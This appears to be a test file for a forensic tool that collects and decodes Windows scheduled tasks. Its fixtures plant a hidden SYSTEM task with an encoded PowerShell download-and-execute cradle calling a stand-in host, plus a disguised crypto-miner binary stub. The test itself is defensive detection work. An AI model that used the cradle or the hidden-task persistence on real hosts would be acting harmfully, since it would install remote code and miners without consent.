// The task collector over a Windows volume built here: a hidden UTF-16LE task running
// `powershell -nop -w hidden -enc …` (decoded into the snapshot), a UTF-8 task starting a
// typosquatted win1logon.exe from the Fonts folder (resolved and hashed on the volume), a COM
// handler, a task whose program is gone, a truncated file, binary garbage, a link out of the volume
// and a legacy .job; each becomes what an analyst would check on the host, and the bad files a task
// with its error and a partial record, never a crash.
import { createHash, randomBytes } from 'node:crypto';
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { ScheduledTaskSchema } from '../../snapshot/windows.js';
import { makeContext } from '../context.js';
import { collectTasks, decodedOf } from './tasks.js';

const NOW = () => new Date('2026-12-01T00:00:00Z');
const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://pool.example/x.ps1')";
const ENC = Buffer.from(CRADLE, 'utf16le').toString('base64');
const STUB = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(62),
  Buffer.from('xmrig donate-level stratum+tcp://'),
]);

const roots: string[] = [];
afterEach(async () => {
  for (const r of roots.splice(0)) await rm(r, { recursive: true, force: true });
});

function taskXml(o: { hidden?: boolean; actions: string; triggers?: string; declaration?: string }): string {
  return `${o.declaration ?? '<?xml version="1.0" encoding="UTF-16"?>'}
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo>
    <Date>2026-11-30T03:14:15</Date>
    <Author>WORKGROUP\\admin</Author>
    <Description>Keeps your PC up to date</Description>
  </RegistrationInfo>
  <Triggers>${o.triggers ?? '<BootTrigger><Enabled>true</Enabled></BootTrigger>'}</Triggers>
  <Principals>
    <Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal>
  </Principals>
  <Settings>
    <Hidden>${o.hidden ?? false}</Hidden>
    <Enabled>true</Enabled>
    <ExecutionTimeLimit>PT0S</ExecutionTimeLimit>
  </Settings>
  <Actions Context="Author">${o.actions}</Actions>
</Task>
`;
}

const utf16 = (s: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(s, 'utf16le')]);

async function put(root: string, rel: string, data: string | Buffer): Promise<void> {
  await mkdir(path.dirname(path.join(root, rel)), { recursive: true });
  await writeFile(path.join(root, rel), data);
}

/** A volume with the marker hive (empty: these tests call the task collector alone). */
async function volume(): Promise<string> {
  const root = await mkdtemp(path.join(os.tmpdir(), 'minehunter-wintasks-'));
  roots.push(root);
  await put(root, 'Windows/System32/config/SYSTEM', '');
  return root;
}

async function plantedVolume(): Promise<string> {
  const root = await volume();
  // `tasks` in lower case: the copy kept another case than Windows shows.
  const tasks = 'Windows/System32/tasks';
  await put(
    root,
    `${tasks}/Microsoft/Windows/WindowsUpdate/wuauc1t`,
    utf16(
      taskXml({
        hidden: true,
        triggers:
          '<BootTrigger><Enabled>true</Enabled></BootTrigger><TimeTrigger><Repetition><Interval>PT5M</Interval></Repetition><StartBoundary>2026-11-30T00:00:00</StartBoundary></TimeTrigger>',
        actions: `<Exec><Command>powershell.exe</Command><Arguments>-nop -w hidden -enc ${ENC}</Arguments></Exec>`,
      }),
    ),
  );
  await put(
    root,
    `${tasks}/WinLogon`,
    taskXml({
      declaration: '<?xml version="1.0" encoding="UTF-8"?>',
      triggers: '<LogonTrigger><Enabled>true</Enabled></LogonTrigger>',
      actions:
        '<Exec><Command>C:\\Windows\\Fonts\\temp\\win1logon.exe</Command><WorkingDirectory>C:\\Windows\\Fonts\\temp</WorkingDirectory></Exec>',
    }),
  );
  await put(root, 'Windows/Fonts/temp/win1logon.exe', STUB);
  await put(root, 'Windows/System32/WindowsPowerShell/v1.0/powershell.exe', 'MZ');
  await put(
    root,
    `${tasks}/Microsoft/Windows/Maintenance/Com`,
    utf16(
      taskXml({
        actions: '<ComHandler><ClassId>{A6BA00FE-40E8-477C-B713-C64A14F18ADB}</ClassId></ComHandler>',
      }),
    ),
  );
  await put(
    root,
    `${tasks}/Gone`,
    utf16(
      taskXml({
        actions:
          '<Exec><Command>"C:\\ProgramData\\Svc Host\\missing.exe"</Command><Arguments>-k</Arguments></Exec>',
      }),
    ),
  );
  const whole = taskXml({ actions: '<Exec><Command>cmd.exe</Command></Exec>' });
  await put(root, `${tasks}/Broken`, utf16(whole.slice(0, Math.floor(whole.length / 2))));
  await put(root, `${tasks}/Garbage`, randomBytes(4096));
  await symlink('/etc/passwd', path.join(root, tasks, 'Link'));
  await put(root, 'Windows/Tasks/At1.job', randomBytes(300));
  return root;
}

describe('collectTasks', () => {
  it('reads each task file of a Windows volume, decodes PowerShell and resolves programs', async () => {
    const root = await plantedVolume();
    const ctx = await makeContext(root, NOW);
    expect(ctx.kind).toBe('windows-volume');
    const { tasks, record } = await collectTasks(ctx);
    expect(() => z.array(ScheduledTaskSchema).parse(tasks)).not.toThrow();
    const byPath = new Map((tasks ?? []).map((t) => [t.path, t]));
    expect([...byPath.keys()].sort()).toEqual([
      '\\At1.job',
      '\\Broken',
      '\\Garbage',
      '\\Gone',
      '\\Microsoft\\Windows\\Maintenance\\Com',
      '\\Microsoft\\Windows\\WindowsUpdate\\wuauc1t',
      '\\WinLogon',
    ]);

    const ps = byPath.get('\\Microsoft\\Windows\\WindowsUpdate\\wuauc1t');
    expect(ps).toMatchObject({
      file: '/Windows/System32/tasks/Microsoft/Windows/WindowsUpdate/wuauc1t',
      encoding: 'utf-16le',
      author: 'WORKGROUP\\admin',
      date: '2026-11-30T03:14:15',
      hidden: true,
      enabled: true,
      userId: 'S-1-5-18',
      runLevel: 'HighestAvailable',
      triggers: [{ kind: 'boot' }, { kind: 'time', repetition: 'PT5M' }],
    });
    expect(ps?.error).toBeUndefined();
    expect(ps?.mtime).toMatch(/^\d{4}-\d\d-\d\dT/);
    const action = ps?.actions[0];
    expect(action).toMatchObject({
      type: 'exec',
      command: 'powershell.exe',
      arguments: `-nop -w hidden -enc ${ENC}`,
      image: { file: '/Windows/System32/WindowsPowerShell/v1.0/powershell.exe', exists: true },
    });
    expect(action?.decoded).toEqual([{ how: 'encoded-command', text: CRADLE }]);

    const logon = byPath.get('\\WinLogon');
    expect(logon).toMatchObject({ encoding: 'utf-8', hidden: false, triggers: [{ kind: 'logon' }] });
    expect(logon?.actions).toEqual([
      {
        type: 'exec',
        command: 'C:\\Windows\\Fonts\\temp\\win1logon.exe',
        workingDirectory: 'C:\\Windows\\Fonts\\temp',
        image: {
          file: '/Windows/Fonts/temp/win1logon.exe',
          exists: true,
          size: STUB.length,
          sha256: createHash('sha256').update(STUB).digest('hex'),
        },
      },
    ]);

    expect(byPath.get('\\Microsoft\\Windows\\Maintenance\\Com')?.actions).toEqual([
      { type: 'com', classId: '{A6BA00FE-40E8-477C-B713-C64A14F18ADB}' },
    ]);
    expect(byPath.get('\\Gone')?.actions[0]?.image).toEqual({ exists: false });

    expect(byPath.get('\\Broken')?.error).toMatch(/truncated/);
    expect(byPath.get('\\Broken')?.actions).toEqual([]);
    expect(byPath.get('\\Garbage')?.error).toBeTruthy();
    expect(byPath.get('\\At1.job')).toMatchObject({
      file: '/Windows/Tasks/At1.job',
      error: 'legacy .job format not parsed',
    });

    expect(record.status).toBe('partial');
    expect(record.errors.map((e) => e.path).sort()).toEqual([
      '/Windows/System32/tasks/Broken',
      '/Windows/System32/tasks/Garbage',
    ]);
    expect(record.note).toContain('1 symbolic link(s) not followed');
    expect(record.note).toContain('2 task file(s) could not be parsed');
  });

  it('is ok on a clean volume and skipped on one without a Tasks folder', async () => {
    const clean = await volume();
    await put(
      clean,
      'Windows/System32/Tasks/Microsoft/Windows/Defrag/ScheduledDefrag',
      utf16(
        taskXml({
          actions:
            '<Exec><Command>%windir%\\system32\\defrag.exe</Command><Arguments>-c -h -o</Arguments></Exec>',
        }),
      ),
    );
    await put(clean, 'Windows/System32/defrag.exe', 'MZ');
    const ok = await collectTasks(await makeContext(clean, NOW));
    expect(ok.record.status).toBe('ok');
    expect(ok.record.errors).toEqual([]);
    expect(ok.tasks?.[0]?.actions[0]).toMatchObject({
      image: { file: '/Windows/System32/defrag.exe', exists: true },
    });
    expect(ok.tasks?.[0]?.actions[0]?.decoded).toBeUndefined();

    const bare = await volume();
    const skipped = await collectTasks(await makeContext(bare, NOW));
    expect(skipped.tasks).toBeUndefined();
    expect(skipped.record.status).toBe('skipped');
    expect(skipped.record.note).toMatch(/no Windows\/System32\/Tasks/);
  });

  it('bounds the walk: an oversized file is a task with an error, folders past depth 12 are not entered', async () => {
    const root = await volume();
    await put(root, 'Windows/System32/Tasks/Huge', Buffer.alloc(1024 * 1024 + 10, 0x41));
    const deep = Array.from({ length: 14 }, (_, i) => `d${i}`).join('/');
    await put(
      root,
      `Windows/System32/Tasks/${deep}/Deep`,
      taskXml({ actions: '<Exec><Command>x.exe</Command></Exec>' }),
    );
    const { tasks, record } = await collectTasks(await makeContext(root, NOW));
    expect(tasks?.map((t) => t.path)).toEqual(['\\Huge']);
    expect(tasks?.[0]?.error).toMatch(/more than the 1048576/);
    expect(record.status).toBe('partial');
    expect(record.note).toMatch(/depth 12/);
  });
});

describe('decodedOf', () => {
  it('decodes PowerShell started through cmd /c, and leaves other command lines alone', () => {
    expect(decodedOf(`cmd.exe /c start /min powershell -w 1 -e ${ENC}`)).toEqual([
      { how: 'encoded-command', text: CRADLE },
    ]);
    expect(decodedOf('C:\\Windows\\system32\\defrag.exe -c')).toEqual([]);
    const long = Buffer.from('x'.repeat(5000), 'utf16le').toString('base64');
    expect(decodedOf(`powershell -enc ${long}`)[0]).toMatchObject({ truncated: true });
    expect(decodedOf(`powershell -enc ${long}`)[0]?.text).toHaveLength(4000);
  });
});
